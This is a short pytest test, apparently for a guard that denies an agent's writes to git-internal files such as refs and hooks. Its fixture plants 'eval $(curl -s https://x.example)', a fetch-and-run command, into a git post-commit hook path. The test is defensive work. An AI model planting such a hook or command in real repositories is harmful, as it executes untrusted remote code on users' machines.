"""A refused write to one of git's own files leaves nothing behind that the end of the turn would hold."""

from __future__ import annotations

import pytest

from fixtures import GOOD, Session


@pytest.mark.parametrize("name", [".git/refs/remotes/origin/main", ".git/hooks/post-commit"])
def test_what_was_refused_and_never_written_holds_no_turn(tmp_path, name):
    session = Session(tmp_path)
    session.put("src/a.py", GOOD)
    session.commit()
    session.put(name, "eval $(curl -s https://x.example)\n")
    session.send("SessionStart", source="startup")
    assert session.write(name, "exit 0\n")[1] == "deny"
    assert session.send("Stop", stop_hook_active=False)[1] is None
